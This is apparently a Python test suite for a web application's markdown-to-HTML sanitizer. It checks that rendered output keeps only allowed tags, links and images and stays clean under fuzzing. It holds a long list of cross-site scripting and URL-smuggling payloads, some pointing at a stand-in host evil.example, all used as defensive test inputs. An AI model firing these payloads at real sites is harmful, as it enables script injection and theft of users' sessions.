from __future__ import annotations

import re
from concurrent.futures import ThreadPoolExecutor
from threading import Barrier

import html5lib
import nh3
import pytest
from bs4 import BeautifulSoup, Tag
from hypothesis import example, given
from hypothesis import settings as how
from hypothesis import strategies as st

from webapp.content.files import Reading
from webapp.web.markdown import MOST, SCHEMES, TAGS, Image, render, render_marked, render_qr, to_html, without_html

ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<form action=//evil.example><input name=x></form>",
    "<details open ontoggle=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<p hx-get='/innlogging' hx-trigger=load>x</p>",
    "<a href='/nb/' id=q name=q target=_blank>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,AAAA)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](///evil.example/)",
    "[x](/\\evil.example/)",
    "[x](\\\\evil.example/)",
    "[x](/%09/evil.example)",
    "[x](http://evil.example/)",
    "[x](https:evil.example)",
    "[x](https:///evil.example)",
    "[x](https://user:password@evil.example/)",
    "[x](https://dalsbygd.example@evil.example/)",
    "[x](https://[::1)",
    "[x](evil.example)",
    "[x](../saker/)",
    "[x](?q=1)",
    "[x](mailto:a@b.example?bcc=c@d.example)",
    "[x](mailto:a@b.example?subject=x&body=y)",
    "[x](mailto:a@b.example,c@d.example)",
    "[x](mailto:a@b.example%0abcc:c@d.example)",
    "[x](tel:113,,1#)",
    "[x](tel:*21*90000000#)",
    "[x](sms:113)",
    "[x](ftp://evil.example/x)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x](/nb/ \"title' onmouseover='alert(1)\")",
    "[x](/nb/'onmouseover='alert(1))",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x][1]\n\n[1]: https://evil.example/pixel.gif",
    "<javascript:alert(1)>",
    "<https://user@evil.example>",
    "```\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "**<b onclick=alert(1)>x</b>**",
    "# <img src=x onerror=alert(1)>",
    "- <svg/onload=alert(1)>\n- x",
    "> <iframe srcdoc='<script>alert(1)</script>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
)
HREF = re.compile(r"/(?!/)\S*|https://[^@\s]+|tel:\+?\d{3,15}|mailto:[\w.+-]+@[\w.-]+")

OURS = re.compile(r"/bilde/[0-9a-f]{64}\.webp")
OF_IMAGE = {"src", "srcset", "sizes", "width", "height", "alt", "loading", "decoding"}
FORMS = tuple((f"/bilde/{letter * 64}.webp", width) for letter, width in (("a", 640), ("b", 1280)))


def image(slug: str) -> Image | None:
    """Answer an image of ours, which says whatever somebody wrote; there is one called x, and many more."""
    return Image(FORMS, 1280, 853, f"<script>\"'{slug}") if slug else None


TREE = list[object]


def tree(markup: str) -> TREE:
    """Answer what a browser makes of a piece of HTML: elements with their attributes, and texts."""

    def read(node: object) -> TREE:
        found: TREE = []
        for child in getattr(node, "children", ()):
            if isinstance(child, Tag):
                found.append((child.name, sorted(child.attrs.items()), read(child)))
            elif str(child):
                found.append((type(child).__name__, str(child)))
        return found

    return read(BeautifulSoup(f"<body>{markup}</body>", "html5lib").body)


def check(markup: str) -> None:
    """Check that HTML holds nothing but what we allow, by our own rules and by nh3's."""
    cleaned = nh3.clean(
        markup,
        tags=set(TAGS),
        attributes={"a": {"href"}, "img": OF_IMAGE},
        url_schemes=set(SCHEMES),
        link_rel=None,
        strip_comments=True,
    )
    assert tree(cleaned) == tree(markup)
    soup = BeautifulSoup(markup, "html5lib").body
    assert soup is not None
    for element in soup.find_all(True):
        assert element.name in TAGS
        assert set(element.attrs) <= {"a": {"href"}, "img": OF_IMAGE}.get(element.name, set())
        if element.name == "img":
            assert OURS.fullmatch(str(element["src"]))
            assert all(OURS.fullmatch(one.split()[0]) for one in str(element["srcset"]).split(", "))
            assert f"{element['width']}{element['height']}".isdecimal()
        if "href" in element.attrs:
            assert HREF.fullmatch(str(element["href"])), element["href"]


PIECES = st.one_of(
    st.sampled_from(
        [*ATTACKS, "# ", "\n\n", "- ", "1. ", "> ", "**", "*", "[", "](", ")", "<", ">", '"', "'", "&", "`"]
    ),
    st.sampled_from(["![](image:x)", "![", "](image:", "[![](image:x)](https://evil.example)"]),
    st.sampled_from(["[a](/nb/abc/fall)", "[b](https://lovdata.no/lov/2011-06-24-30)", "[c](tel:116117)", "\\", "&#"]),
    st.text(max_size=20),
)
TEXTS = st.lists(PIECES, max_size=12).map("".join)


@given(text=TEXTS, raised=st.booleans())
@how(max_examples=600, deadline=None)
@example(text="<a href='x'>" * 50, raised=False)
@example(text="> " * 200 + "x", raised=True)
@example(text="[" * 500 + "x" + "](/)" * 500, raised=False)
def test_whatever_is_written_nothing_is_left_that_another_cleaner_would_strip(
    text: str,
    raised: bool,  # noqa: FBT001 -- a case, not a switch
) -> None:
    check(to_html(text, raise_headings=raised, image=image))


@given(text=st.text())
def test_whatever_text_is_written_the_result_is_clean(text: str) -> None:
    check(to_html(text))


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "around", ["{0}", "Text {0} text", "**{0}**", "- {0}", "## {0}", "> {0}", "{0}\n\n{0}", "[t]({0})"]
)
def test_a_known_attack_leaves_nothing_but_words(attack: str, around: str) -> None:
    markup = to_html(around.format(attack))
    check(markup)
    soup = BeautifulSoup(markup, "html5lib")
    assert not soup.find_all(["script", "style", "img", "svg", "math", "iframe", "object", "form", "input", "details"])
    for link in soup.find_all("a", href=True):
        assert not re.match(
            r"\s*(javascript:|data:|vbscript:|file:|http:|ftp:|sms:|//)", str(link["href"]), re.IGNORECASE
        )
        assert "?bcc" not in str(link["href"])


@pytest.mark.parametrize(
    "href",
    [
        "/nb/abc/fall", "/nb/abc/?for=parorende", "/nn/innsatstrapp#trinn-3", "/", "tel:113", "tel:+4761359000",
        "mailto:post@fjordvik.example", "https://lovdata.no/lov/2011-06-24-30/%C2%A73-1",
        "https://www.helsenorge.no/?a=b&c=d#e", "https://xn--vgskole-ixa.example/",
    ],
)  # fmt: skip
def test_links_to_our_own_pages_and_to_safe_places_stay(href: str) -> None:
    link = BeautifulSoup(to_html(f"Se [mer om dette]({href}) her."), "html5lib").find("a")
    assert link is not None
    assert link["href"] == href
    assert link.get_text() == "mer om dette"


@pytest.mark.parametrize(
    ("text", "markup"),
    [
        ("Ett ord.\n\nEtt til.", "<p>Ett ord.</p>\n<p>Ett til.</p>\n"),
        ("- ett\n- to", "<ul>\n<li>ett</li>\n<li>to</li>\n</ul>\n"),
        ("1. ett\n2. to", "<ol>\n<li>ett</li>\n<li>to</li>\n</ol>\n"),
        ("**sterkt** og *lett*", "<p><strong>sterkt</strong> og <em>lett</em></p>\n"),
        ("## Overskrift", "<h2>Overskrift</h2>\n"),
        ("a < b & c", "<p>a &lt; b &amp; c</p>\n"),
        ("", ""),
    ],
)
def test_what_writers_use_is_shown_as_they_mean_it(text: str, markup: str) -> None:
    assert to_html(text) == markup


def test_headings_stand_one_level_up_where_they_are_told_to() -> None:
    text = "### Ett\n\n#### To"
    assert to_html(text) == "<h3>Ett</h3>\n<h4>To</h4>\n"
    assert to_html(text, raise_headings=True) == "<h2>Ett</h2>\n<h3>To</h3>\n"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Se [loven](https://www.lovdata.no/x).", "Se loven (lovdata.no)."),
        ("Se [**lov**data](https://lovdata.no/x).", "Se lovdata (lovdata.no)."),
        ("Se [nav.no](https://evil.example/).", "Se nav.no (evil.example)."),
        ("Se [helsenorge.no](https://h\u0435lsenorge.no/).", "Se helsenorge.no (xn--hlsenorge-g0h.no)."),
        ("Se [on.\u202eevil](https://evil.example/).", "Se on.evil (evil.example)."),
        ("[![](image:x)](https://evil.example)", " (evil.example)"),
        ("Se [1].\n\n[1]: https://evil.example", "Se 1 (evil.example)."),
        ("Ring [113](tel:113) eller [oss](tel:+4761359000).", "Ring 113 eller oss (+4761359000)."),
        ("Les om [fall](/nb/abc/fall).", "Les om fall."),
        ("Se [her](javascript:alert(1)).", "Se [her](javascript:alert(1))."),
    ],
)
def test_where_a_link_leads_out_of_the_house_stands_beside_its_words(text: str, shown: str) -> None:
    assert BeautifulSoup(to_html(text, image=image), "html5lib").get_text().strip("\n") == shown


def test_an_image_of_ours_is_shown_with_its_words_or_those_of_the_text() -> None:
    found = BeautifulSoup(to_html('![](image:x) ![Egne "ord"](image:y)', image=image), "html5lib").find_all("img")
    assert [one["alt"] for one in found] == ["<script>\"'x", 'Egne "ord"']


@pytest.mark.parametrize(
    "text",
    [
        "![ord](image:)", "![ord](https://evil.example/x.gif)", "![ord](/bilde/x.webp)",
        "![ord](data:image/gif;base64,R0)",
        "![ord](//evil.example/x.gif)", "![ord][1]\n\n[1]: https://evil.example/x.gif", "![ord](/logg-ut)",
    ],
)  # fmt: skip
def test_no_other_image_is_shown_and_its_words_stay(text: str) -> None:
    markup = to_html(text, image=image)
    assert "<img" not in markup
    assert "ord" in markup
    assert "<img" not in to_html("![ord](image:x)")


@pytest.mark.parametrize(
    "unit", ["<div>", "<a href='/x'>", "[x](/nb/", "![](image:x)", "> ", "- ", "**", "&#x41;", "<svg><math>", "\\", "&"]
)
def test_a_huge_paste_is_cut_and_stays_clean(unit: str) -> None:
    markup = to_html(unit * (5_000_000 // len(unit)), image=image)
    assert len(markup) < 200 * MOST
    assert not BeautifulSoup(markup[:20_000], "html.parser").find_all(["div", "svg", "math", "script"])


def test_words_stay_where_their_markup_is_taken_away() -> None:
    assert "viktig" in to_html("<blink>viktig</blink>")
    assert "bildet" in to_html("![bildet](https://evil.example/x.gif)")


def test_an_endless_text_is_cut_and_not_worked_on_for_ever() -> None:
    assert len(to_html("ord " * MOST)) < MOST + 100


def test_every_text_of_the_real_content_comes_out_clean(real_content: Reading) -> None:
    texts = [
        value for part in real_content.parts.values() for value in part.fields.values()
        if isinstance(value, str) and "\n" in value
    ]  # fmt: skip
    assert len(texts) > 500
    for text in texts:
        check(to_html(text))


@given(pieces=st.lists(st.tuples(st.text() | st.sampled_from(ATTACKS), st.booleans())))
def test_marked_text_is_text_with_marks_and_nothing_else(pieces: list[tuple[str, bool]]) -> None:
    markup = str(render_marked(pieces))
    assert set(re.findall(r"<[^>]*>", markup)) <= {"<mark>", "</mark>"}
    plain = "".join(piece for piece, _ in pieces)
    assert re.sub(r"</?mark>", "", markup) == re.sub(r"</?mark>", "", str(render_marked([(plain, False)])))


@given(address=st.text(min_size=1, max_size=100))
def test_a_qr_code_is_a_picture_without_any_text_of_the_address(address: str) -> None:
    markup = str(render_qr(f"https://fjordvik.example/{address}"))
    html5lib.HTMLParser(strict=True).parseFragment(markup)
    assert set(re.findall(r"<(\w+)", markup)) == {"svg", "path"}
    assert set(re.findall(r' ([\w:-]+)="', markup)) <= {"viewBox", "transform", "stroke", "d", "class", "xmlns"}
    assert "fjordvik" not in markup


def test_a_template_takes_the_result_without_escaping_it_again() -> None:
    assert str(render("**a**").__html__()) == "<p><strong>a</strong></p>\n"


def test_texts_that_are_rendered_at_the_same_time_do_not_run_into_each_other() -> None:
    """Threads of one process render pages at once: no reader may get another one's words."""
    together, wrong = Barrier(4), []

    def render_often(word: str) -> None:
        text = f"## {word}\n\n" + f"- {word} og **{word}**\n" * 20
        together.wait(10)
        for _ in range(50):
            html = to_html(text)
            if html.count(word) != 41 or set(re.findall("kanarifugl[a-d]", html)) != {word}:
                wrong.append(html)

    with ThreadPoolExecutor(4) as pool:
        for done in [pool.submit(render_often, f"kanarifugl{letter}") for letter in "abcd"]:
            done.result(60)
    assert not wrong


@given(st.text(alphabet="ab <>/&;\"'=!-\n", max_size=60))
def test_what_is_kept_of_a_text_has_no_tag_left_and_is_kept_the_same_again(text: str) -> None:
    kept = without_html(text)
    assert not re.search(r"<[a-zA-Z/!?][^>]*>", kept)
    assert without_html(kept) == kept


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("a < b og c > d & e", "a < b og c > d & e"),
        ("> sitat\n\n[Ring](tel:113) & **vent**", "> sitat\n\n[Ring](tel:113) & **vent**"),
        ('<p class="MsoNormal">Ring &amp; vent <b>nå</b></p>', "Ring &amp; vent nå"),
        ('> sitat <b>nå</b> & «snart» "ja"', '> sitat nå & «snart» "ja"'),
        ("<<b>script>alert(1)<</b>/script>", "alert(1)"),
        ("<!-- hemmelig -->Ord", "Ord"),
        ("Se <https://lovdata.no/x> og <post@fjordvik.example>.", "Se https://lovdata.no/x og post@fjordvik.example."),
    ],
)
def test_what_is_pasted_is_kept_without_its_tags_and_with_its_words(written: str, kept: str) -> None:
    assert without_html(written) == kept
